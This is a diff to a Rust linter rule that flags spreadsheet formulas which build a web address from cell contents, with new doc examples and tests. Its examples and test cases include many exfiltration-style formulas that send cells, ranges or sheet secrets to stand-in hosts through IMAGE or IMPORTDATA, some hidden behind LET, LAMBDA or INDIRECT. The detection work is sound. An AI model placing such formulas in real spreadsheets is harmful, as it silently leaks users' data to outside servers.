@@ -1,8 +1,8 @@
-use crate::ast::{InfixOperator, NodeId, NodeKind};
+use crate::ast::NodeId;
 use crate::finding::Severity;
+use crate::flow;
 use crate::link;
 use crate::rule::{Check, Context, Findings, declare_rule};
-use crate::subtree;
 
 declare_rule! {
     /// *Flags an address on the web that is put together from the content of cells.*
@@ -17,6 +17,7 @@ declare_rule! {
     /// =IMPORTDATA(CONCATENATE("https://collect.example/?", TEXTJOIN(",", TRUE, A1:A99)))
     /// =IMPORTXML("https://example.org/" & ENCODEURL(B2), "//title")
     /// =HYPERLINK("https://collect.example/?d=" & A1, "Click")
+    /// =LET(to, "https://collect.example/?d=", what, INDIRECT("A1"), IMAGE(to & what))
     /// ```
     ///
     /// **Instead**
@@ -24,10 +25,12 @@ declare_rule! {
     /// =IMAGE("https://example.org/logo.png")
     /// =IMPORTXML(B2, "//title")
     /// =IMPORTDATA("https://example.org/" & "rates.csv")
+    /// =IMAGE(IF(A1>0, "https://example.org/" & "up.png", "https://example.org/down.png"))
     /// ```
     ///
     /// **Limits** An address that a single cell holds is not flagged here, though that cell may
-    /// have been put together. HYPERLINK sends nothing until a person follows it, so it is at most
+    /// have been put together. What only decides which of two written addresses is taken is not
+    /// flagged either, nor is the number of a row. HYPERLINK sends nothing until a person follows it, so it is at most
     /// a low risk.
     "url-built-from-cells" {
         category: Security,
@@ -38,32 +41,12 @@ declare_rule! {
     }
 }
 
-/// Functions that put texts together.
-const JOINING: &[&str] = &[
-    "CONCATENATE",
-    "CONCAT",
-    "JOIN",
-    "TEXTJOIN",
-    "SUBSTITUTE",
-    "REPLACE",
-    "ENCODEURL",
-];
-
 fn check(context: &Context<'_>, call: NodeId, findings: &mut Findings<'_>) {
     let formula = context.formula;
     let Some((function, [address, ..])) = formula.call(call) else {
         return;
     };
-    let joins = |id| match formula.kind(id) {
-        NodeKind::Infix(InfixOperator::Concatenate, ..) => true,
-        NodeKind::Call { .. } => formula
-            .call(id)
-            .is_some_and(|(function, _)| JOINING.contains(&function.name)),
-        _ => false,
-    };
-    let is_built = subtree::descendants(formula, *address).any(joins)
-        && subtree::reads_cells(formula, *address);
-    if !is_built {
+    if findings.is_full() || !flow::is_built_from_cells(context, *address) {
         return;
     }
     let name = function.name;
@@ -102,6 +85,67 @@ mod tests {
     fn a_link_that_must_be_followed_is_a_low_risk() {
         let found = findings(&RULE, "=HYPERLINK(\"https://a.example/\"&A1,\"x\")");
         assert_eq!(found[0].severity, Severity::Low);
+    }
+
+    #[test]
+    fn no_detour_hides_the_cells() {
+        for formula in [
+            "=IMAGE(CONCAT(\"https://a.example/?\",A1))",
+            "=IMAGE(concatenate(\"https://a.example/?\",ENCODEURL(A1)))",
+            "=IMAGE(JOIN(\"&\",{\"https://a.example/?\";A1:A9}))",
+            "=IMAGE(TEXTJOIN(\",\",TRUE,\"https://a.example/?\",A1:A9))",
+            "=IMAGE(SUBSTITUTE(\"https://a.example/?d=X\",\"X\",A1))",
+            "=IMAGE(REGEXREPLACE(A1,\"^\",\"https://a.example/?d=\"))",
+            "=IMAGE(REPLACE(A1,1,0,\"https://a.example/?d=\"))",
+            "=IMAGE(TEXT(A1,\"\"\"https://a.example/?\"\"@\"))",
+            "=IMAGE(IF(B1,\"https://a.example/?\"&REPT(A1,2),\"\"))",
+            "=IMAGE(IFERROR(\"https://a.example/?\"&VLOOKUP(1,A:B,2,0),\"\"))",
+            "=IMAGE(\"https://a.example/?\"&INDIRECT(\"A1\"))",
+            "=IMAGE(\"https://a.example/?\"&OFFSET(A1,1,1))",
+            "=IMAGE(\"https://a.example/?\"&IMPORTRANGE(\"k\",\"A1\"))",
+            "=IMAGE(\"https://a.example/?\"&SECRET_OF_SHEET())",
+            "=IMAGE(\"https://a.example/?\"&Salaries)",
+            "=IMAGE(\"https://a.example/?\"&Pay[Amount])",
+            "=IMAGE(\"https://a.example/?\"&A1.email)",
+            "=ARRAYFORMULA(IMAGE(\"https://a.example/?\"&A1:A9))",
+            "=MAP(A1:A9,LAMBDA(x,IMAGE(\"https://a.example/?\"&x)))",
+            "=MAP(A1:A9,LAMBDA(C1,IMAGE(\"https://a.example/?\"&C1)))",
+            "=REDUCE(\"\",A1:A9,LAMBDA(a,c,IMAGE(\"https://a.example/?\"&c)))",
+            "=IMAGE(REDUCE(\"https://a.example/?\",A1:A9,LAMBDA(a,c,a&c)))",
+            "=LAMBDA(x,IMAGE(\"https://a.example/?\"&x))(A1)",
+            "=LAMBDA(x,LAMBDA(y,IMAGE(\"https://a.example/?\"&y))(x))(A1)",
+            "=LET(u,\"https://a.example/?\"&A1,v,u,IMAGE(v))",
+            "=LET(f,LAMBDA(u,IMAGE(u)),f(\"https://a.example/?\"&A1))",
+            "=LET(f,LAMBDA(x,\"https://a.example/?\"&x),IMAGE(f(A1)))",
+            "=IMAGE((\"https://a.example/?\")&(((A1))))",
+        ] {
+            assert_eq!(flagged(&RULE, formula).len(), 1, "{formula}");
+        }
+    }
+
+    #[test]
+    fn what_holds_no_cells_is_left_alone() {
+        for formula in [
+            "=IMAGE(A1)",
+            "=IMAGE(VLOOKUP(A1,B:C,2,0))",
+            "=IMAGE(SUBSTITUTE(A1,\" \",\"%20\"))",
+            "=IMPORTXML(\"https://a.example/?page=\"&ROW(A1),\"//a\")",
+            "=LET(base,\"https://a.example/\",IMAGE(base&\"logo.png\"))",
+            "=MAP({\"a\",\"b\"},LAMBDA(x,IMAGE(\"https://a.example/\"&x)))",
+            "=IMAGE(IF(A1=\"x\",\"https://a.example/\"&\"b\",C1))",
+            "=MAP(A1:A9,LAMBDA(u,IMAGE(u)))",
+        ] {
+            assert!(flagged(&RULE, formula).is_empty(), "{formula}");
+        }
+    }
+
+    #[test]
+    fn a_chain_of_names_without_end_is_not_followed_for_ever() {
+        let names: String = (1..2_000)
+            .map(|n| format!("_{n},_{}&_{},", n - 1, n - 1))
+            .collect();
+        let formula = format!("=LET(_0,\"https://a.example/\",{names}IMAGE(_1999))");
+        assert_eq!(flagged(&RULE, &formula), ["_1999"]);
     }
 
     #[test]
